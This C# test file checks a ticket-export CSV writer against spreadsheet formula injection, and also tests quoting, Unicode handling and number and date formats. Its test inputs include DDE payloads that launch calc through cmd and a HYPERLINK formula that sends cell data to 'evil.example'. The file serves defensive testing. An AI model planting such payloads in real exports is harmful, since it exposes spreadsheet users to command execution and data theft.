using System.Buffers;
using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using FsCheck.Fluent;
using CsvWriter = KustomerAdmin.Tickets.Exporting.CsvWriter;

namespace KustomerAdmin.Tests.Tickets.Exporting;

/// <summary>What is written, read back by a reader that others made.</summary>
public sealed class CsvWriterTests
{
    private static readonly TimeZoneInfo s_berlin = TimeZoneInfo.FindSystemTimeZoneById("Europe/Berlin");

    /// <summary>Mostly of what the format is about, so that it meets often.</summary>
    private static readonly FsCheck.Gen<string> s_texts =
        from length in Gen.Choose(0, 12)
        from characters in Gen.Elements("=+-@\t\r\n\0\",;|' \uFEFF\u00A0\u200B\u2003\u0085aß€漢\u202E＝".ToCharArray()).ListOf(length)
        from isEmoji in Gen.Elements(true, false, false)
        select string.Concat(characters) + (isEmoji ? "😀" : "");

    [Fact]
    public void Text_OfAnyCharacters_ComesBackUnlessItCouldBeAFormula() => Holds.ForAll(
        s_texts.ListOf(3).ListOf(),
        rows => Read(csv =>
        {
            foreach (var row in rows)
            {
                // An empty row of one field is no row to some readers; a row of this console has its first field.
                csv.WriteText("x");
                row.ToList().ForEach(text => csv.WriteText(text));
                csv.EndRow();
            }
        }).ShouldBe(rows.Select(row => (IReadOnlyList<string>)["x", .. row.Select(Shown)]), new Fields()),
        runs: 1000);

    [Theory]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData("\0=1+1")]
    [InlineData("＝1+1")]
    [InlineData("-5")]
    [InlineData(" =1+1")]
    [InlineData("\u200B=HYPERLINK(\"https://evil.example\")")]
    [InlineData("\uFEFF=1+1")]
    [InlineData("\u00A0=1+1")]
    [InlineData("\u2003\u0085\u202E \u00AD＠SUM(1+1)")]
    [InlineData(" \t=1+1")]
    [InlineData("\U000E0001=1+1")]
    public void Text_ThatASpreadsheetWouldRun_BeginsWithAnApostrophe(string text) => Read(csv => Write(csv, text)).ShouldHaveSingleItem().ShouldHaveSingleItem().ShouldBe("'" + text);

    [Theory]
    [InlineData("a;=1+1")]
    [InlineData("a\t=1+1")]
    [InlineData("a,=1+1")]
    [InlineData("a|=1+1")]
    [InlineData("\"=1+1")]
    [InlineData(" 1=1")]
    public void Text_ThatWouldBreakIntoFieldsElsewhere_IsQuoted(string text)
    {
        Raw(csv => Write(csv, text)).ShouldBe($"\"{text.Replace("\"", "\"\"")}\"\r\n");
        Read(csv => Write(csv, text)).ShouldHaveSingleItem().ShouldHaveSingleItem().ShouldBe(text);
    }

    [Fact]
    public void Text_HalfOfACharacter_IsReplaced() => Raw(csv => Write(csv, "a\uD800b")).ShouldBe("a\uFFFDb\r\n");

    [Fact]
    public void Number_AnyThatIsStored_ComesBackAsItIsAndIsNoText() => Holds.ForAll<double>(
        number =>
        {
            if (double.IsFinite(number))
            {
                double.Parse(Raw(csv =>
                {
                    csv.WriteNumber(number);
                    csv.EndRow();
                }).TrimEnd(), CultureInfo.InvariantCulture).ShouldBe(number);
            }
        },
        runs: 1000);

    [Fact]
    public void Values_OfEachKind_KeepTheirForm() => Raw(csv =>
    {
        csv.WriteNumber(-5.5);
        csv.WriteNumber(null);
        csv.WriteTruth(true);
        csv.WriteTruth(null);
        csv.WriteMoment(new DateTimeOffset(2026, 7, 1, 12, 0, 0, 5, TimeSpan.Zero), s_berlin);
        csv.WriteMoment(new DateTimeOffset(2026, 12, 1, 12, 0, 0, TimeSpan.Zero), s_berlin);
        csv.WriteMoment(null, s_berlin);
        csv.EndRow();
    }).ShouldBe("-5.5,,true,,2026-07-01T14:00:00.005+02:00,2026-12-01T13:00:00.000+01:00,\r\n");

    [Fact]
    public void Mark_ByExcel_IsTheFirstThree()
    {
        var buffer = new ArrayBufferWriter<byte>();
        new CsvWriter(buffer).WriteMark();

        buffer.WrittenSpan.ToArray().ShouldBe([0xEF, 0xBB, 0xBF]);
    }

    private static string Shown(string text) => Regex.IsMatch(text, @"^[\s\p{Cf}\p{Cc}]*[=+\-@\t\r\n\0＝＋－＠]", RegexOptions.None, TimeSpan.FromSeconds(10)) ? "'" + text : text;

    private static void Write(CsvWriter csv, string text)
    {
        csv.WriteText(text);
        csv.EndRow();
    }

    private static string Raw(Action<CsvWriter> write)
    {
        var buffer = new ArrayBufferWriter<byte>();
        write(new CsvWriter(buffer));
        return Encoding.UTF8.GetString(buffer.WrittenSpan);
    }

    private static List<IReadOnlyList<string>> Read(Action<CsvWriter> write)
    {
        var buffer = new ArrayBufferWriter<byte>();
        write(new CsvWriter(buffer));
        return CsvFile.Read(buffer.WrittenSpan.ToArray());
    }

    private sealed class Fields : IEqualityComparer<IReadOnlyList<string>>
    {
        public bool Equals(IReadOnlyList<string>? x, IReadOnlyList<string>? y) => x!.SequenceEqual(y!, StringComparer.Ordinal);

        public int GetHashCode(IReadOnlyList<string> obj) => obj.Count;
    }
}
